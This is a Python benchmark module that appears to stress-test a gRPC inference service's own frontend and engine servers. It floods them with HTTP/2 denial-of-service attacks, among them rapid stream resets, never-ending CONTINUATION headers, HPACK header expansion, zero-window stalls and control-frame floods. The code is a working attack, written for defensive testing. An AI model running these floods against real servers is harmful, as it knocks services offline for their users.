"""The attacks of the flood benchmark: HTTP/2 connections that no well-behaved client opens."""

import asyncio
import contextlib
import itertools
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import uvloop
from google.protobuf.message import Message
from grpc_health.v1.health_pb2 import HealthCheckRequest

from protos.common.v1.sampling_pb2 import SamplingParams
from protos.engine.v1 import engine_pb2 as engine
from protos.frontend.v1 import frontend_pb2 as frontend
from tests.bench.rounds import rounds
from tests.support.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_DYNAMIC_ENTRY,
    HEADERS,
    INDEXED,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    call_headers,
    frame,
    header,
    message_start,
    raw_connection,
)

LIMITED_KEY, UNLIMITED_KEY = "limited-0123456789", "unlimited-0123456789"
CALLS_AT_A_TIME = 32
BURST = 200
CANCEL = b"\0\0\0\x08"
GENERATED_TOKENS = SamplingParams(temperature=0, max_tokens=400, ignore_eos=True)


@dataclass(frozen=True)
class Call:
    """A gRPC call with one message."""

    path: str
    message: Message
    key: str = ""

    def headers(self) -> bytes:
        """Returns the header block."""
        authorization = {"authorization": f"Bearer {self.key}"} if self.key else {}
        return call_headers(self.path, **authorization)

    def frames(self, stream_id: int, flags: int = END_STREAM) -> bytes:
        """Returns the call's frames; by default, the client then sends no more."""
        content = self.message.SerializeToString()
        return frame(HEADERS, END_HEADERS, stream_id, self.headers()) + frame(
            DATA, flags, stream_id, message_start(len(content), content)
        )


@dataclass(frozen=True)
class Target:
    """A service, and the calls to attack it with."""

    name: str
    open_calls: tuple[Call, ...]
    """Need no key, or are refused without one."""
    refused: Call
    """Ends with RESOURCE_EXHAUSTED while the caller is at its limit."""
    session: Call
    generate: Call


_FRONTEND, _ENGINE = "/octavo.frontend.v1.FrontendService", "/octavo.engine.v1.EngineService"
_CHECK = Call("/grpc.health.v1.Health/Check", HealthCheckRequest())
_TEXT = frontend.GenerateRequest(
    text="flood", options=frontend.GenerationOptions(sampling=GENERATED_TOKENS)
)
_HELLO = engine.FrontendMessage(hello=engine.FrontendHello(frontend_id="flood"))
_IDS = engine.GenerateRequest(prompt_token_ids=[1, 2, 3], sampling=GENERATED_TOKENS)
TARGETS = {
    "frontend": Target(
        "frontend",
        (_CHECK, Call(f"{_FRONTEND}/ListModels", frontend.ListModelsRequest())),
        Call(f"{_FRONTEND}/Generate", _TEXT, LIMITED_KEY),
        Call(
            f"{_FRONTEND}/Session",
            frontend.SessionRequest(handle=1, generate=_TEXT),
            UNLIMITED_KEY,
        ),
        Call(f"{_FRONTEND}/Generate", _TEXT, UNLIMITED_KEY),
    ),
    "engine": Target(
        "engine",
        (_CHECK, Call(f"{_ENGINE}/GetStats", engine.GetStatsRequest())),
        Call(f"{_ENGINE}/WatchSteps", engine.WatchStepsRequest()),
        Call(f"{_ENGINE}/Session", _HELLO),
        Call(f"{_ENGINE}/Generate", _IDS),
    ),
}


class Peer:
    """One connection of an attack."""

    def __init__(self, connection: RawConnection, target: Target, index: int, sent: Counter[str]):
        self.target = target
        self.index = index
        self._connection = connection
        self._sent = sent
        self._stream_ids = itertools.count(1, 2)

    async def send(self, content: bytes, calls: int = 0) -> None:
        """Sends bytes that begin `calls` calls."""
        self._connection.send(content)
        self._sent["bytes"] += len(content)
        self._sent["calls"] += calls
        await self._connection.drain()

    def next_stream(self) -> int:
        """Returns the id of a new stream."""
        return next(self._stream_ids)

    async def ended_stream(self) -> None:
        """Waits until the server ends a stream."""
        await self._connection.ended_stream()


async def _call_after_call(peer: Peer, call: Call) -> None:
    """Keeps CALLS_AT_A_TIME calls going, as fast as they end."""
    # The server may send without end: its window never closes.
    window = frame(WINDOW_UPDATE, 0, 0, (1 << 20).to_bytes(4, "big"))
    await peer.send(window * 16)
    for _ in range(CALLS_AT_A_TIME):
        await peer.send(call.frames(peer.next_stream()), 1)
    for count in itertools.count():
        await peer.ended_stream()
        await peer.send(call.frames(peer.next_stream()) + window * (count % 4096 == 0), 1)


async def open_calls(peer: Peer) -> None:
    """Makes calls without a key: health checks, and calls that need a key."""
    await _call_after_call(peer, peer.target.open_calls[peer.index % 2])


async def refused_calls(peer: Peer) -> None:
    """Makes calls that the caller's limits refuse."""
    await _call_after_call(peer, peer.target.refused)


async def dropped_sessions(peer: Peer) -> None:
    """Opens sessions with a request each, resets half of them, and drops the connection."""
    streams = [peer.next_stream() for _ in range(8)]
    for stream_id in streams:
        await peer.send(peer.target.session.frames(stream_id, 0), 1)
    await asyncio.sleep(0.01 * (peer.index % 4))
    for stream_id in streams[::2]:
        await peer.send(frame(RST_STREAM, 0, stream_id, CANCEL))


async def rapid_resets(peer: Peer) -> None:
    """Resets every call at once."""
    while True:
        for _ in range(BURST):
            stream_id = peer.next_stream()
            call = peer.target.open_calls[peer.index % 2].frames(stream_id)
            await peer.send(call + frame(RST_STREAM, 0, stream_id, CANCEL), 1)


async def control_frames(peer: Peer) -> None:
    """Sends frames that carry nothing, each connection of another kind."""
    stream_id = peer.next_stream()
    await peer.send(peer.target.session.frames(stream_id, 0), 1)
    kinds = (
        frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64"),
        frame(PING, 0, 0, b"12345678"),
        frame(DATA, 0, stream_id),
        frame(PRIORITY, 0, stream_id, b"\0\0\0\0\x10"),
        frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
    )
    while True:
        await peer.send(BURST * kinds[peer.index % len(kinds)])


async def open_headers(peer: Peer) -> None:
    """Begins headers and continues them with an empty frame each second."""
    stream_id = peer.next_stream()
    await peer.send(frame(HEADERS, 0, stream_id, header("a", "b" * 8000)), 1)
    while True:
        await asyncio.sleep(1)
        await peer.send(frame(CONTINUATION, 0, stream_id))


async def closed_windows(peer: Peer) -> None:
    """Generates without ever taking any of the output, for 15 s."""
    await peer.send(frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0"))
    for _ in range(16):
        await peer.send(peer.target.generate.frames(peer.next_stream()), 1)
    await asyncio.sleep(15)


async def header_references(peer: Peer) -> None:
    """Sends headers that expand to 16 MiB, before the server's settings are acknowledged."""
    stored = header("x", "y" * 3900, INDEXED)
    for _ in range(150):
        block = peer.target.generate.headers() + stored + FIRST_DYNAMIC_ENTRY * 4200
        await peer.send(frame(HEADERS, END_HEADERS, peer.next_stream(), block), 1)
        stored = b""


@dataclass(frozen=True)
class Attack:
    """An attack, and how it is carried out."""

    run: Callable[[Peer], Awaitable[None]]
    num_connections: int
    reads: bool = True
    """Whether a background task reads what the server sends and acknowledges its settings."""


ATTACKS = {
    "calls without a key": Attack(open_calls, 32, reads=False),
    "calls over a limit": Attack(refused_calls, 8, reads=False),
    "dropped sessions": Attack(dropped_sessions, 16),
    "rapid resets": Attack(rapid_resets, 8),
    "control frames": Attack(control_frames, 10),
    "control frames, never reading": Attack(control_frames, 10, reads=False),
    "headers that do not end": Attack(open_headers, 100),
    "windows that stay closed": Attack(closed_windows, 4),
}
"""`reads` is False where the attack reads by itself, or never."""
LEFTOVERS = {"header references": Attack(header_references, 1, reads=False)}
"""Attacks that only a proxy stops (docs/security.md)."""


def flood(attack_name: str, target_name: str, address: str, seconds: float) -> dict[str, int]:
    """Attacks and returns how many connections, calls and bytes were sent."""
    return uvloop.run(_flood(attack_name, TARGETS[target_name], address, seconds))


async def _flood(attack_name: str, target: Target, address: str, seconds: float) -> dict[str, int]:
    attack, sent = (ATTACKS | LEFTOVERS)[attack_name], Counter[str]()
    end_s = time.monotonic() + seconds
    attacking = asyncio.gather(
        *(
            _keep_attacking(attack, target, address, index, sent, end_s)
            for index in range(attack.num_connections)
        )
    )
    await asyncio.wait({attacking}, timeout=seconds)
    while not sent["bytes"] and not attacking.done():  # noqa: ASYNC110  a slow machine's first call
        await asyncio.sleep(0.01)
    attacking.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await attacking
    return dict(sent)


async def _keep_attacking(
    attack: Attack, target: Target, address: str, index: int, sent: Counter[str], end_s: float
) -> None:
    """Attacks over one connection after the other."""
    for _ in rounds(end_s):
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            async with raw_connection(address) as connection:
                sent["connections"] += 1
                reading = asyncio.create_task(_read(connection)) if attack.reads else None
                try:
                    await attack.run(Peer(connection, target, index, sent))
                finally:
                    if reading is not None:
                        reading.cancel()


async def _read(connection: RawConnection) -> None:
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        while True:
            await connection.ended_stream()
